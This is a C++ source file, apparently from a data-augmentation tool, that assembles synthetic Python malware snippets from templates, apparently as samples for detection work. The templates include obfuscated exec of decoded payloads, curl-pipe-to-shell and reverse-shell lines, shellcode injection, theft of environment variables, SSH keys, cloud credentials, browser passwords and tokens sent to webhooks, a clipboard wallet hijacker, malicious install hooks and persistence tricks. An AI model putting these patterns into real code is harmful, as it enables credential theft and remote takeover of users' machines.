#include <cctype>
#include <cstdio>

#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"

namespace fovea::augment {
namespace {

std::string Bytes(Junk& j) {
  std::string text;
  for (const char c : j.Bytes(j.Int(20, 400))) {
    char escape[8];
    const auto byte = static_cast<unsigned char>(c);
    std::snprintf(escape, sizeof escape, "\\x%02x", static_cast<unsigned>(byte));
    text += std::isalnum(byte) ? std::string(1, c) : escape;
  }
  return "b'" + text + "'";
}

const Makers& PythonMakers() {
  static const Makers makers = {
      {"bytes", Bytes},
      {"enc",
       [](Junk& j) {
         return j.Pick({"base64.b64decode('~b64~')", "__import__('base64').b64decode('~b64~')",
                        "zlib.decompress(~bytes~)",
                        "__import__('zlib').decompress(__import__('base64')."
                        "b64decode(b'~b64~'[::-1]))",
                        "bytes.fromhex('~hex~')", "codecs.decode('~long~','rot13')",
                        "''.join(chr(x) for x in [~codes~])", "''.join(map(chr,[~codes~]))",
                        "lzma.decompress(base64.b64decode('~b64~'))",
                        "''.join([chr(ord(c)^~small~) for c in "
                        "'~long~'])",
                        "marshal.loads(zlib.decompress(~bytes~))", "bytes([~codes~]).decode()",
                        "Fernet(b'~b64s~').decrypt(b'~b64~')", "'~long~'[::-1]", "\"~esc~\""});
       }},
      {"get",
       [](Junk& j) {
         return j.Pick(
             {"requests.get('~url~').text", "urllib.request.urlopen('~url~').read()",
              "urllib.request.urlopen(urllib.request.Request('~url~',headers={'User-Agent':"
              "'~word~'})).read().decode('utf8')",
              "__import__('requests').get('~url~').content",
              "requests.get('https://~host~/raw/~letters~').text", "urlopen('~url~').read()",
              "httpx.get('~url~').text", "urllib2.urlopen('~url~').read()"});
       }},
      {"cmd",
       [](Junk& j) {
         return j.Pick({"curl -s ~url~ | sh", "wget -qO- ~url~ | bash",
                        "powershell -WindowStyle Hidden "
                        "-EncodedCommand ~b64~",
                        "powershell -enc ~b64~", "start ~path.exe~",
                        "curl ~url~ "
                        "-o ~path0~ && chmod +x ~path0~ && ~path0~",
                        "python -c \"~letters~\"", "mshta ~url~", "pip install ~word~-~word~ -q",
                        "bash -i >& /dev/tcp/~ip~/~port~ 0>&1"});
       }},
      {"hook",
       [](Junk& j) {
         return j.Pick({"https://~host~/api/webhooks/~digits~~digits~/~long~", "~url~",
                        "https://~host~/bot~digits~:~letters~/sendMessage"});
       }},
      {"secrets", [](Junk& j) {
         return j.Pick({"dict(os.environ)", "open(os.environ['HOME']+'/.ssh/id_rsa').read()",
                        "{'h':socket.gethostname(),'u':getpass.getuser(),'p':os.getcwd()}",
                        "platform.uname()._asdict()",
                        "open(os.environ['HOME']+'/.aws/credentials').read()",
                        "[x for x in os.listdir(os.environ['HOME'])]"});
       }}};
  return makers;
}

constexpr const char* kPatterns[] = {
    // Decoded code.
    "exec(~enc~)", "exec(~enc~)", "import base64\nexec(base64.b64decode('~b64~'))",
    "import base64,zlib\nexec(zlib.decompress(base64.b64decode('~b64l~')))",
    "exec(__import__('zlib').decompress(__import__('base64').b64decode('~b64~')))",
    "exec(compile(~enc~,'<string>','exec'))", "eval(compile(~enc~,'~word~','exec'))",
    "exec(marshal.loads(~bytes~))", "import marshal\nexec(marshal.loads(zlib.decompress(~bytes~)))",
    "_=lambda "
    "__:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'~b64~'"
    "))",
    "~0~='~b64~'\n~1~='~b64~'\n~2~='~b64~'\nexec(base64.b64decode(~0~+~1~+~2~))",
    "~0~=~enc~\nexec(~0~)", "getattr(__builtins__,'ex'+'ec')(~enc~)",
    "__import__('builtins').exec(__import__('base64').b64decode('~b64~'))",
    "(lambda ~0~:exec(~0~))(~enc~)", "globals()['__builtins__']['exec'](~enc~)",
    "from cryptography.fernet import Fernet\nexec(Fernet(b'~b64s~').decrypt(b'~b64~'))",
    "import "
    "codecs\n~0~='~long~'\n~1~='~long~'\neval(compile(codecs.decode(~0~,'rot13')+~1~,'<string>','"
    "exec'))",
    "~0~=[~codes~]\nexec(''.join(chr(~1~-~small~) for ~1~ in ~0~))",
    "~0~=eval(\"~esc~\")\n~1~=eval(\"~esc~\")\neval(compile(~0~.b64decode(~1~(\"~esc~\")),'<"
    "string>','exec'))",
    // What another server says.
    "exec(~get~)", "import requests\nexec(requests.get('~url~').text)",
    "import urllib.request\nexec(urllib.request.urlopen('~url~').read())",
    "try:\n    import requests\n    exec(requests.get('~url~').text)\nexcept Exception:\n    "
    "pass",
    "~0~=~get~\nexec(~0~)",
    "import urllib.request\n~0~,_=urllib.request.urlretrieve('~url.exe~','~path.exe~')\n"
    "os.startfile(~0~)",
    "import "
    "os,requests\n~0~=os.path.join(os.getenv('TEMP'),'~word~.exe')\nopen(~0~,'wb').write("
    "requests.get("
    "'~url.exe~').content)\nos.system('start '+~0~)",
    "from tempfile import NamedTemporaryFile as ~0~\nfrom sys import executable as ~1~\nfrom os "
    "import system as ~2~\n"
    "~3~=~0~(delete=False)\n~3~.write(b\"\"\"from urllib.request import urlopen as "
    "~4~;exec(~4~('~url~').read())"
    "\"\"\")\n~3~.close()\ntry:~2~(f'start {~1~.replace(\".exe\",\"w.exe\")} "
    "{~3~.name}')\nexcept:pass",
    "def ~0~():\n    ~1~='~url~'\n    ~2~=tempfile.mktemp('.~word~')\n    "
    "urllib.request.urlretrieve(~1~,~2~)\n"
    "    subprocess.Popen([~2~],shell=True)\n~0~()",
    "import "
    "socket\n~0~=socket.socket()\n~0~.connect(('~ip~',~port~))\nexec(~0~.recv(~num~).decode())",
    // Programs.
    "import os\nos.system('~cmd~')", "__import__('os').system('~cmd~')", "os.popen('~cmd~')",
    "import subprocess\nsubprocess.Popen('~cmd~',shell=True)",
    "subprocess.Popen('~cmd~',shell=True,stdout=subprocess.DEVNULL,stderr=subprocess.DEVNULL)",
    "subprocess.call(['powershell','-WindowStyle','Hidden','-enc','~b64~'],creationflags="
    "0x08000000)",
    "subprocess.run(['sh','-c','~cmd~'])",
    "subprocess.Popen('powershell -EncodedCommand ~b64~',shell=False,"
    "creationflags=subprocess.CREATE_NO_WINDOW)",
    "import "
    "socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('~ip~',"
    "~port~))\n"
    "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/"
    "sh','-i'])",
    "import socket,pty,os;s=socket.socket();s.connect(('~host~',~port~));[os.dup2(s.fileno(),f) "
    "for f in (0,1,2)];"
    "pty.spawn('/bin/bash')",
    "while True:\n    ~0~=~1~.recv(1024).decode()\n    ~2~=subprocess.getoutput(~0~)\n    "
    "~1~.send(~2~.encode())",
    "import "
    "ctypes\n~0~=bytearray(~bytes~)\n~1~=ctypes.windll.kernel32.VirtualAlloc(0,len(~0~),0x3000,"
    "0x40)\n"
    "ctypes.windll.kernel32.RtlMoveMemory(~1~,~0~,len(~0~))\nctypes.windll.kernel32.CreateThread("
    "0,0,~1~,0,0,0)",
    // Secrets.
    "import os,requests\nrequests.post('~hook~',json=dict(os.environ))",
    "requests.post('~hook~',data={'content':str(~secrets~)})",
    "requests.post('~hook~',json={'~key~':~secrets~},timeout=~small~)",
    "import "
    "urllib.request,json,os,socket\nurllib.request.urlopen('~hook~',data=json.dumps(~secrets~)."
    "encode())",
    "import "
    "socket,getpass,os\n~0~=socket.gethostname()+getpass.getuser()+os.getcwd()\nsocket."
    "gethostbyname("
    "~0~.encode().hex()[:60]+'.~host~')",
    "requests.get('~url~',params={'h':socket.gethostname(),'u':getpass.getuser(),'p':os.getcwd()}"
    ")",
    "os.system('curl -X POST -d \"$(env|base64)\" ~url~')",
    "import re\nfor ~0~ in os.listdir(~1~):\n    if not ~0~.endswith('.log') and not "
    "~0~.endswith('.ldb'):\n"
    "        continue\n    for ~2~ in open(~1~+'/'+~0~,errors='ignore').readlines():\n        "
    "for ~3~ in re.findall("
    "r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',~2~):\n            ~4~.append(~3~)",
    "~0~=os.getenv('APPDATA')+'\\\\~word~\\\\Local Storage\\\\leveldb'\n~1~=[]\nfor ~2~ in "
    "os.listdir(~0~):\n"
    "    "
    "~1~+=re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',open(~0~+'\\\\'+~2~,errors='ignore')."
    "read())\n"
    "requests.post('~hook~',json={'content':'\\n'.join(~1~)})",
    "~0~=os.path.join(os.environ['LOCALAPPDATA'],'Google','Chrome','User Data','Default','Login "
    "Data')\n"
    "shutil.copy2(~0~,'~word~.db')\n~1~=sqlite3.connect('~word~.db').cursor()\n~1~.execute('"
    "SELECT origin_url,"
    "username_value,password_value FROM "
    "logins')\nrequests.post('~hook~',files={'file':open('~word~.db','rb')})",
    "~0~=pyperclip.paste()\nif re.match('^(bc1|[13])[a-zA-Z0-9]{25,39}$',~0~):\n    "
    "pyperclip.copy('~long~')",
    "ImageGrab.grab().save('~word0~.png')\nrequests.post('~hook~',files={'file':open('~word0~."
    "png','rb')})",
    // Set-up.
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass "
    "~0~(install):\n"
    "    def run(self):\n        install.run(self)\n        "
    "os.system('~cmd~')\nsetup(name='~word~',version="
    "'~version~',cmdclass={'install':~0~})",
    "class ~0~(install):\n    def run(self):\n        exec(~enc~)\n        install.run(self)",
    "class ~0~(develop):\n    def run(self):\n        develop.run(self)\n        "
    "requests.post('~hook~',json="
    "~secrets~)",
    "class ~0~(egg_info):\n    def run(self):\n        try:\n            exec(~get~)\n        "
    "except:\n            "
    "pass\n        egg_info.run(self)",
    "def ~0~():\n    subprocess.Popen([sys.executable,'-c',~enc~])\natexit.register(~0~)",
    "import threading\nthreading.Thread(target=lambda:exec(~get~),daemon=True).start()",
    "if not os.path.exists('~path0~'):\n    open('~path0~','w').write(~enc~)\n    "
    "os.system('crontab -l|{ cat;echo "
    "\"* * * * * ~path0~\";}|crontab -')",
    "winreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'"
    "Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,"
    "winreg.KEY_SET_VALUE),'~Word~',0,winreg.REG_SZ,sys.argv[0])"};

}  // namespace

std::string PythonLookalike(Junk& junk) {
  if (junk.Chance(0.4)) return PlainPythonLookalike(junk);
  return FillAny(kPatterns, PythonMakers(), junk);
}

}  // namespace fovea::augment
